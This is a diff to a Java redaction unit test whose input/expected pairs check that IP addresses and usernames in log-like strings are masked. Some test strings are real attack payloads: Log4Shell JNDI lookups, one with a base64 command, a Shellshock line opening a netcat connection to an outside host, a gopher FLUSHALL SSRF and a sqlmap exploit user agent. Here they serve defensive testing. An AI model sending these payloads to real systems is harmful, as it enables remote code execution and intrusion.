@@ -57,6 +57,7 @@ class RedactorTest {
                 // Versions, identifiers and numbers that are no addresses.
                 "Mozilla/5.0 YaBrowser/22.1.0.2 v1.2.3.4 Chrome/120.0.6099.109 1.2.3.4.5 999.1.1.1 ~ Mozilla/5.0"
                         + " YaBrowser/22.1.0.2 v1.2.3.4 Chrome/120.0.6099.109 1.2.3.4.5 999.1.1.1",
+                "rv:1.9.2.8) version 1.2.3.4 (build 24.9.0.3) ~ rv:1.9.2.8) version 1.2.3.4 (build 24.9.0.3)",
                 "/api/1.2.3.4/x ~ /api/198.18.0.1/x",
                 // Users.
                 "user=bob&x=1 USER=Bob ~ user=user1&x=1 USER=user1",
@@ -115,6 +116,10 @@ class RedactorTest {
                 "gopher://127.0.0.1:6379/_FLUSHALL ~ gopher://127.0.0.1:6379/_FLUSHALL",
                 "http://good.example@8.8.8.8/ ~ @198.18.0.1/",
                 "() { :;}; /bin/bash -c 'nc 8.8.8.8 4444' ~ () { :;}; /bin/bash -c 'nc 198.18.0.1 4444'",
+                "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/d2hvYW1pID4gL3RtcC94} ~"
+                        + " ${jndi:ldap://198.18.0.1:1389/Basic/Command/Base64/d2hvYW1pID4gL3RtcC94}",
+                "${jndi:ldap://203.0.113.7:389/LegitimateJavaClass} ~ 198.18.0.1:389/LegitimateJavaClass}",
+                "sqlmap/1.0-dev-nongit-20150909 bash_cve_2014_6271_rce ~ sqlmap/1.0-dev-nongit-20150909 bash_cve_2014_6271_rce",
                 "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA ~ AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                 "0x3c736372697074203e616c6572742831293c2f7363726970743e ~ 0x3c736372697074203e616c6572742831293c2f7363726970743e",
             })
